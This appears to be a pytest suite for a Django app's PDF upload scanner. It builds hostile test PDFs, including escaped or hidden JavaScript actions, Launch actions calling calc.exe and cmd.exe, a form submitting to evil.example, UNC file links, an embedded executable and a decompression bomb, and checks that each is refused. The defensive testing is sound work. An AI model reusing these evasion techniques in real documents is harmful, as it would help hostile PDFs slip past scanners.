"""The PDF check against a corpus of hostile files built here, and clean files from real
producers (tests/content/fixtures/README.md says how they were made)."""

import io
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from content import files, pdf_scan
from content.models import Attachment

from .conftest import pdf_bytes
from .factories import PostFactory
from .pdf_corpus import (
    XFA_WITH_SCRIPT,
    XFA_WITH_SUBMIT,
    catalog_and_page,
    incremental_update,
    link_with_script,
    names_tree_script,
    object_stream_pdf,
    raw_pdf,
    stream,
    written,
    xfa_form_with_script,
)

FIXTURES = Path(__file__).parent / "fixtures"
SCRIPT_ACTION = b"<< /S /JavaScript /JS (app.alert\\('hej'\\);) >>"
LAUNCH_ACTION = b"<< /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"


def _doc(*, catalog=b"", page=b"", extra=None, unlisted=frozenset()):
    return raw_pdf(
        {**catalog_and_page(catalog=catalog, page=page), **(extra or {})}, unlisted=unlisted
    )


def _link(action: bytes) -> bytes:
    return b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A " + action + b" >>]"


def _packed(packed: dict[int, bytes], *, catalog=b"", **kwargs) -> bytes:
    return object_stream_pdf(catalog_and_page(catalog=catalog), packed, **kwargs)


HOSTILE = {
    # JavaScript, wherever a viewer runs it
    "open action script (pypdf)": (pdf_bytes(javascript=True), "pdf_javascript"),
    "document names tree script (pypdf)": (written(names_tree_script), "pdf_javascript"),
    "link annotation script (pypdf)": (written(link_with_script), "pdf_javascript"),
    "form field keystroke script (/AA)": (
        _doc(
            catalog=b"/AcroForm << /Fields [4 0 R] >>",
            page=b"/Annots [4 0 R]",
            extra={
                4: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (navn) /Rect [0 0 90 20] "
                b"/P 3 0 R /AA << /K " + SCRIPT_ACTION + b" >> >>"
            },
        ),
        "pdf_javascript",
    ),
    "page open script with the code in a compressed stream": (
        _doc(
            page=b"/AA << /O << /S /JavaScript /JS 4 0 R >> >>",
            extra={4: stream(b"app.alert('hej');", flate=True)},
        ),
        "pdf_javascript",
    ),
    "XFA form script, compressed (pypdf)": (written(xfa_form_with_script), "pdf_javascript"),
    "XFA form script, plain stream": (
        _doc(catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>", extra={4: stream(XFA_WITH_SCRIPT)}),
        "pdf_javascript",
    ),
    "open action to a script object missing from the xref table": (
        _doc(catalog=b"/OpenAction 4 0 R", extra={4: SCRIPT_ACTION}, unlisted=frozenset({4})),
        "pdf_javascript",
    ),
    "script object neither listed nor referenced": (
        _doc(extra={4: SCRIPT_ACTION}, unlisted=frozenset({4})),
        "pdf_javascript",
    ),
    "script action with #xx-escaped names": (
        _doc(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        "pdf_javascript",
    ),
    "names tree script, every letter escaped": (
        _doc(
            catalog=b"/Names << /#4A#61#76#61#53#63#72#69#70#74 << /Names [(a) 4 0 R] >> >>",
            extra={4: b"<< /#53 /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (x) >>"},
        ),
        "pdf_javascript",
    ),
    "link to a javascript: address": (
        _doc(page=_link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>")),
        "pdf_javascript",
    ),
    "open action script in a compressed object stream": (
        _packed({4: SCRIPT_ACTION}, catalog=b"/OpenAction 4 0 R"),
        "pdf_javascript",
    ),
    "script in an object stream the xref stream does not list": (
        _packed({4: SCRIPT_ACTION}, listed=False),
        "pdf_javascript",
    ),
    "escaped script names in an object stream under hex and flate": (
        _packed(
            {4: b"<< /S /J#61vaScript /J#53 (x) >>"},
            catalog=b"/OpenAction 4 0 R",
            filters=("ASCIIHexDecode", "FlateDecode"),
        ),
        "pdf_javascript",
    ),
    "script object that exists only inside another object's string": (
        _doc(
            catalog=b"/OpenAction 5 0 R",
            extra={4: b"(5 0 obj " + SCRIPT_ACTION + b" endobj)"},
        ),
        "pdf_javascript",
    ),
    "script behind a false stream keyword inside a string": (
        _doc(
            catalog=b"/OpenAction 4 0 R",
            extra={4: b"<< /T (x >>stream\n) /S /JavaScript /JS (app.alert\\(1\\)) >>"},
        ),
        "pdf_javascript",
    ),
    "rendition action with a script": (
        _doc(catalog=rb"/OpenAction << /S /Rendition /OP 4 /JS (app.alert\(1\)) >>"),
        "pdf_javascript",
    ),
    "script in an object stream typed with an escaped name": (
        _packed({4: SCRIPT_ACTION}, type_name=b"/Obj#53tm", listed=False),
        "pdf_javascript",
    ),
    "open action script added by an incremental update": (
        incremental_update(
            _doc(), {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + SCRIPT_ACTION + b" >>"}
        ),
        "pdf_javascript",
    ),
    "open action script with a broken xref table": (
        _doc(catalog=b"/OpenAction " + SCRIPT_ACTION).replace(
            b"0000000015 00000 n", b"0000009999 00000 n"
        ),
        "pdf_javascript",
    ),
    # Programs, forms that send, data from elsewhere, other files, rich media, files
    "launch action": (_doc(catalog=b"/OpenAction " + LAUNCH_ACTION), "pdf_launch"),
    "launch action, escaped, missing from the xref table": (
        _doc(
            catalog=b"/OpenAction 4 0 R",
            extra={4: b"<< /S /L#61unch /F (calc.exe) >>"},
            unlisted=frozenset({4}),
        ),
        "pdf_launch",
    ),
    "launch action in an object stream": (
        _packed({4: LAUNCH_ACTION}, catalog=b"/OpenAction 4 0 R"),
        "pdf_launch",
    ),
    "submit form button": (
        _doc(page=_link(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>")),
        "pdf_submit_form",
    ),
    "XFA form that submits its data": (
        _doc(
            catalog=b"/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>",
            extra={4: stream(XFA_WITH_SUBMIT, flate=True)},
        ),
        "pdf_submit_form",
    ),
    "import data action": (
        _doc(catalog=b"/OpenAction << /S /ImportData /F (data.fdf) >>"),
        "pdf_import_data",
    ),
    "go to another file (GoToR)": (
        _doc(page=_link(b"<< /S /GoToR /F (\\\\\\\\server\\\\share\\\\other.pdf) /D [0 /Fit] >>")),
        "pdf_link_to_file",
    ),
    "go to an embedded file (GoToE)": (
        _doc(catalog=b"/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>"),
        "pdf_link_to_file",
    ),
    "rich media annotation": (
        _doc(
            page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 90 90] "
            b"/RichMediaContent << /Assets << /Names [] >> >> >>]"
        ),
        "pdf_rich_media",
    ),
    "embedded file (pypdf add_attachment)": (pdf_bytes(embedded=True), "pdf_embedded_files"),
    "file attachment annotation": (
        _doc(
            page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] "
            b"/FS << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >> >>]",
            extra={4: stream(b"MZ", entries=b" /Type /EmbeddedFile")},
        ),
        "pdf_embedded_files",
    ),
    "associated file (/AF) with an untyped stream": (
        _doc(
            catalog=b"/AF [<< /Type /Filespec /F (x.txt) /EF << /F 4 0 R >> >>]",
            extra={4: stream(b"hello")},
        ),
        "pdf_embedded_files",
    ),
    "embedded files names tree in an object stream": (
        _packed(
            {4: b"<< /EmbeddedFiles << /Names [(a.exe) << /F (a.exe) >>] >> >>"},
            catalog=b"/Names 4 0 R",
        ),
        "pdf_embedded_files",
    ),
    # Bounds
    "object stream that inflates to 80 MB": (
        _doc(
            extra={
                4: b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\n"
                b"stream\n%s\nendstream"
                % (len(bomb := zlib.compress(b"5 0 " + b" " * 80_000_000, 9)), bomb)
            }
        ),
        "pdf_unpacked_too_large",
    ),
}


def _upload(client, post, name, content):
    return client.post(
        f"/api/v1/posts/{post.pk}/attachments/",
        {"file": SimpleUploadedFile(name, content, content_type="application/pdf")},
        format="multipart",
    )


def _stored_files(settings) -> list[Path]:
    media = Path(settings.MEDIA_ROOT)
    return [path for path in media.rglob("*") if path.is_file()] if media.exists() else []


@pytest.mark.parametrize(("content", "code"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_pdf_is_refused_with_its_code_and_nothing_is_stored(
    org, api, settings, content, code
):
    # Given a draft
    post = PostFactory(author=org.comms, publish=False)

    # When its author uploads the hostile PDF
    response = _upload(api(org.comms), post, "bilag.pdf", content)

    # Then it is refused with the finding's own code, and no row and no file is left
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == code
    assert body["fields"]["file"] == [body["message"]]
    assert Attachment.objects.count() == 0
    assert _stored_files(settings) == []


def test_the_corpus_has_at_least_twenty_hostile_variants_and_every_finding():
    assert len(HOSTILE) >= 20
    assert {code for _content, code in HOSTILE.values()} >= set(pdf_scan.FINDING_ORDER)


CLEAN = {
    "Chromium print-to-PDF": (FIXTURES / "chromium-vagtplan.pdf").read_bytes(),
    "LibreOffice Writer": (FIXTURES / "libreoffice-referat.pdf").read_bytes(),
    "pypdf blank page": pdf_bytes(),
    "raw, with a web link, an outline and a compressed content stream": _doc(
        catalog=b"/Outlines << /Count 0 >> /OpenAction [3 0 R /Fit]",
        page=_link(b"<< /S /URI /URI (https://www.slagelse.dk/JavaScript/Launch) >>")
        + b" /Contents 4 0 R",
        extra={4: stream(b"BT /F1 12 Tf 10 10 Td (Launch /JS) Tj ET", flate=True)},
    ),
    "clean objects in a compressed object stream": _packed(
        {4: b"<< /Title (Referat) /Producer (Bro) >>"}, catalog=b"/PageLabels << /Nums [] >>"
    ),
}


@pytest.mark.parametrize("content", CLEAN.values(), ids=CLEAN.keys())
def test_a_clean_pdf_from_a_real_producer_is_accepted(org, api, settings, content):
    post = PostFactory(author=org.comms, publish=False)
    response = _upload(api(org.comms), post, "referat.pdf", content)
    assert response.status_code == 201, response.content
    assert response.json()["size"] == len(content)
    assert Attachment.objects.count() == 1
    assert len(_stored_files(settings)) == 1


def _malformed() -> dict[str, bytes]:
    chromium = (FIXTURES / "chromium-vagtplan.pdf").read_bytes()
    cycle = catalog_and_page()
    cycle[2] = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    return {
        "truncated to its first third": chromium[: len(chromium) // 3],
        "truncated before its trailer": chromium[: chromium.rindex(b"xref")],
        "nested arrays 10,000 deep": _doc(catalog=b"/Deep " + b"[" * 10_000 + b"]" * 10_000),
        "xref /Prev pointing at itself": _doc().replace(
            b"trailer\n<<", b"trailer\n<< /Prev %d" % _doc().rindex(b"xref")
        ),
        "page tree that contains itself": raw_pdf(cycle),
        "object stream with a broken flate stream": _doc(
            extra={
                4: b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 9 >>\n"
                b"stream\nnot zlib!\nendstream"
            }
        ),
        "object stream under an image filter": _doc(
            extra={
                4: b"<< /Type /ObjStm /N 1 /First 4 /Filter /DCTDecode /Length 4 >>\n"
                b"stream\n\xff\xd8\xff\xe0\nendstream"
            }
        ),
        "stream without endstream": _doc(extra={4: b"<< /Length 999999 >>\nstream\nabc"}),
        "unbalanced strings and comments": _doc(catalog=b"/T ((((((\\) % (") + b"\n)" * 3,
        "random bytes after the header": b"%PDF-1.7\n" + bytes(range(256)) * 40,
    }


MALFORMED = _malformed()


@pytest.mark.parametrize("content", MALFORMED.values(), ids=MALFORMED.keys())
def test_a_malformed_pdf_gets_a_clear_answer_never_a_server_error(org, api, settings, content):
    post = PostFactory(author=org.comms, publish=False)
    response = _upload(api(org.comms), post, "ødelagt.pdf", content)
    if response.status_code == 201:  # pypdf repaired it, and nothing active was found
        assert Attachment.objects.count() == 1
        return
    assert response.status_code == 400, response.content
    assert response.json()["code"] in ("pdf_unreadable", "pdf_too_complex")
    assert Attachment.objects.count() == 0
    assert _stored_files(settings) == []


def test_every_truncation_and_byte_flip_of_a_real_pdf_is_accepted_or_refused_cleanly():
    # Given the Chromium fixture, cut at 60 places and with a byte changed at 60 others
    original = (FIXTURES / "chromium-vagtplan.pdf").read_bytes()
    step = len(original) // 60
    variants = [original[:cut] for cut in range(step, len(original), step)]
    variants += [
        original[:at] + bytes([original[at] ^ 0x5A]) + original[at + 1 :]
        for at in range(step // 2, len(original), step)
    ]

    # When each is checked, then each is accepted or refused in the one error shape
    codes = set()
    for content in variants:
        try:
            files.check_pdf(io.BytesIO(content))
            codes.add("accepted")
        except files.ApplicationError as refused:
            codes.add(refused.code)
    assert codes <= {"accepted", "pdf_unreadable", "pdf_too_complex"}


def test_the_scan_bounds_the_number_of_streams(monkeypatch):
    monkeypatch.setattr(pdf_scan, "MAX_STREAMS", 3)
    content = _doc(extra={n: stream(b"q Q") for n in range(4, 9)})
    with pytest.raises(files.ApplicationError) as refused:
        files.check_pdf(io.BytesIO(content))
    assert refused.value.code == "pdf_too_complex"


def test_a_pdf_with_more_objects_than_the_check_reads_is_refused_before_pypdf_parses_it(
    monkeypatch,
):
    monkeypatch.setattr(pdf_scan, "MAX_OBJECTS", 5)
    content = _doc(extra={n: b"<< /A %d >>" % n for n in range(4, 10)})
    with pytest.raises(files.ApplicationError) as refused:
        files.check_pdf(io.BytesIO(content))
    assert refused.value.code == "pdf_too_complex"


def test_the_scan_bounds_the_steps_it_takes(monkeypatch):
    monkeypatch.setattr(pdf_scan, "MAX_PARSER_STEPS", 100)
    content = _doc(catalog=b"/X [" + b"/a#20 " * 200 + b"]")
    with pytest.raises(files.ApplicationError) as refused:
        files.check_pdf(io.BytesIO(content))
    assert refused.value.code == "pdf_too_complex"
